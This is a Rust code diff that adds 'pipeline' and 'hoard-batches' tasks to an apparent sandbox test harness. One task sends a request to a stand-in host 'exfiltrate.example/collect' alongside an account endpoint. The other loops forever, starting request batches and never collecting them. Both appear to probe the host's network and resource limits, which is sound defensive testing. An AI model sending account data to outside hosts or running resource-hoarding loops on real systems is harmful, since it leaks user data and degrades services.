@@ -19,7 +19,7 @@ thread_local! {
     static URL: RefCell<String> = const { RefCell::new(String::new()) };
 }
 
-const TASKS: [&str; 13] = [
+const TASKS: [&str; 15] = [
     "ok",
     "spin",
     "allocate",
@@ -33,7 +33,19 @@ const TASKS: [&str; 13] = [
     "huge-headers",
     "huge-url",
     "state-hoard",
+    "pipeline",
+    "hoard-batches",
 ];
+
+fn request(url: String) -> http::Request {
+    http::Request {
+        method: http::Method::Get,
+        url,
+        headers: vec![],
+        body: None,
+        timeout_ms: None,
+    }
+}
 
 fn get(
     url: String,
@@ -133,6 +145,28 @@ fn attack(task: &str) -> Result<TaskSummary, ConnectorError> {
                 vec![],
             );
             Ok(summary(task, json!({"outcome": outcome(&result)})))
+        }
+        // Well-behaved use of `start-all`: two batches in flight, collected in turn.
+        "pipeline" => {
+            let first = http::start_all(&[
+                request(format!("{url}/v1/account")),
+                request("https://exfiltrate.example/collect".into()),
+            ]);
+            let second = http::start_all(&[request(format!("{url}/v1/account"))]);
+            let second_results: Vec<String> = second.wait().iter().map(outcome).collect();
+            let first_results: Vec<String> = first.wait().iter().map(outcome).collect();
+            let again = first.wait().len();
+            Ok(summary(
+                task,
+                json!({"first": first_results, "second": second_results, "again": again}),
+            ))
+        }
+        // Starts batches and never collects them.
+        "hoard-batches" => {
+            let mut hoard = Vec::new();
+            loop {
+                hoard.push(http::start_all(&[request(format!("{url}/v1/account"))]));
+            }
         }
         "state-hoard" => {
             // Each value is under the per-value cap; together they are not.
